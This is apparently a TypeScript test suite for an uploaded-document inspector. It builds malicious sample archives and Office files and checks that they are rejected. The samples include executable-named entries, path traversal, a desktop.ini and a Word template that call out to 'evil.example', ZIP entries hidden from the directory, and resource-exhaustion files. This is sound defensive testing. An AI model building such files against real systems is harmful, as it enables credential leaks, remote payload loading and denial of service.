import { strToU8, type Zippable, type ZippableFile, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { compoundFile, officeFile, pdfFile, sheetRecord, signedFile } from '../../testing/builders/sample-files.ts';
import { type DocumentFormat, inspectFile } from './inspect-file.ts';

const text = (words: string) => new TextEncoder().encode(words);
const inspect = (bytes: Uint8Array, format: DocumentFormat = 'zip') =>
  inspectFile(Buffer.from(bytes), format, format === 'p7m' ? 'Bando.pdf.p7m' : undefined);
const zip = (files: Zippable) => inspect(zipSync({ 'Avviso.pdf': pdfFile(), ...files }));

/** The extra field that says a name in Unicode: its version, a checksum that nobody here asks for, the name. */
const inUnicode = (name: string) => ({ 0x70_75: new Uint8Array([1, 0, 0, 0, 0, ...text(name)]) });

/** An archive whose file is called otherwise at the place where the file itself begins. */
function renamed(files: Zippable, name: string, local: string): Uint8Array {
  const bytes = Buffer.from(zipSync(files));
  bytes.write(local, bytes.indexOf(name));
  return bytes;
}

describe('abuse 58: names in an archive that programs read otherwise', () => {
  const programs = [
    'apri.command',
    'Avviso.desktop',
    'avviso.appref-ms',
    'apri.bat.',
    'Moduli\\apri.command',
    'apri.js. ',
  ];
  test.each(programs)('a text called %s is refused: it is run where it is opened', async (name) => {
    expect(await zip({ [name]: text('x') })).toBe('inside');
  });

  test('a text without any ending passes, a script without one does not', async () => {
    const besides = new Uint8Array([0, 5, 0x16, 7, 0, 2]);
    const files = { LEGGIMI: text('Da leggere'), '__MACOSX/._LEGGIMI': besides, '__MACOSX/Moduli/._Domande': besides };
    expect(await zip(files)).toBeNull();
    expect(await zip({ 'Modulo.app/Contents/MacOS/Modulo': text('#!/bin/sh\nx') })).toBe('inside');
  });

  test('a second name has to say the same kind, and leads nowhere out', async () => {
    const file = (name: string): Zippable => ({ 'Perch_.txt': [text('x'), { extra: inUnicode(name) }] });
    expect(await zip(file('Perché.txt'))).toBeNull();
    for (const name of ['Perché.bat', 'Perché.pdf', 'Perché.command', ''])
      expect([name, await zip(file(name))]).toEqual([name, 'inside']);
    expect(await zip(file('../Perché.txt'))).toBe('dangerous');
  });

  test('the names of folders and of what systems leave are one each, too', async () => {
    const files: Zippable = { 'Avviso.pdf': pdfFile(), 'a/Thumbs.db': text('x'), 'Moduli.ba/': text('') };
    expect(await inspect(zipSync(files))).toBeNull();
    expect(await inspect(renamed(files, 'a/Thumbs.db', 'a/Apri_.bat'))).toBe('broken');
    expect(await inspect(renamed(files, 'Moduli.ba/', 'Moduli.bat'))).toBe('broken');
  });

  test('the look of a folder of Windows passes, unless it calls somebody on the net', async () => {
    const look = (icon: string) => `[.ShellClassInfo]\r\nIconResource=${icon},1`;
    const local = '%SystemRoot%\\system32\\imageres.dll';
    expect(await zip({ 'Moduli/desktop.ini': text(look(local)) })).toBeNull();
    for (const encoding of ['utf8', 'utf16le'] as const) {
      const calling = new Uint8Array(Buffer.from(look('\\\\evil.example\\a.ico'), encoding));
      expect(await zip({ 'desktop.ini': calling })).toBe('inside');
    }
  });

  test('a file that the list leaves out is found between the others and after them', async () => {
    const files: Zippable = { 'Avviso.pdf': pdfFile(), 'Note.txt': text('x'), 'Fine.txt': text('x') };
    expect(await inspect(zipSync(files))).toBeNull();
    for (const hidden of ['Note.txt', 'Fine.txt']) expect(await inspect(without(files, hidden))).toBe('kind');
  });
});

/** An archive whose list leaves out a file that is there. */
function without(files: Zippable, name: string): Uint8Array {
  const bytes = Buffer.from(zipSync(files));
  const at = bytes.lastIndexOf(name) - 46;
  const end = bytes.length - 22;
  const tail = Buffer.from(bytes.subarray(end));
  tail.writeUInt16LE(tail.readUInt16LE(8) - 1, 8);
  tail.writeUInt16LE(tail.readUInt16LE(10) - 1, 10);
  tail.writeUInt32LE(tail.readUInt32LE(12) - 46 - name.length, 12);
  return new Uint8Array(Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 46 + name.length, end), tail]));
}

describe('abuse 58: a template from the net', () => {
  test.each([
    `<r:Relationship Target = 'https://evil.example/t.dotm' Type='http://x/attachedTemplate'/>`,
    '<Relationship Id=">" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm"/>',
  ])('is found however its element is written: %s', async (element) => {
    const part = { 'word/_rels/settings.xml.rels': strToU8(`<Relationships>${element}</Relationships>`) };
    expect(await inspect(officeFile('docx', part), 'docx')).toBe('dangerous');
  });
});

describe('abuse 60: what takes time or memory without measure', () => {
  test('a part that is nothing but beginnings of an element is read in the time of its length', async () => {
    const beginnings = strToU8('<Relationship attachedTemplate '.repeat(120_000));
    // Not packed, so that the archive is no bomb.
    const file = officeFile('docx', { 'word/_rels/settings.xml.rels': [beginnings, { level: 0 }] });
    expect(await inspect(file, 'docx')).toBeNull();
  });

  test('parts that are each small enough are too much together', async () => {
    const part: ZippableFile = [new Uint8Array(3_900_000), { level: 0 }];
    const links = (count: number) =>
      Object.fromEntries(Array.from({ length: count }, (_, at) => [`xl/externalLinks/${at}.xml`, part]));
    expect(await inspect(officeFile('xlsx', links(2)), 'xlsx')).toBeNull();
    expect(await inspect(officeFile('xlsx', links(9)), 'xlsx')).toBe('dense');
  });

  test('a small disk that names its own table over and over, or whose directory has no end, is no larger than its file', async () => {
    const disk = Buffer.alloc(24_000_000);
    disk.set(compoundFile({ Workbook: sheetRecord(1) }));
    // The last sector lists the table a hundred times, and goes on with itself.
    const last = disk.length / 512 - 2;
    disk.writeUInt32LE(last, 68);
    disk.writeUInt32LE(last, disk.length - 4);
    expect(await inspect(disk, 'xls')).toBe('dangerous');
    // The table says that the directory, which begins in its second sector, is followed by itself.
    disk.writeUInt32LE(1, 512 + 4);
    expect(await inspect(disk, 'xls')).toBe('dangerous');
  });

  test('a signed document is read in the pieces of any program, and not in pieces without measure', async () => {
    expect(await inspect(signedFile(pdfFile(), true, 30_000), 'p7m')).toBeNull();
    expect(await inspect(signedFile(pdfFile(), true, 400_000), 'p7m')).toBe('kind');
  });
});
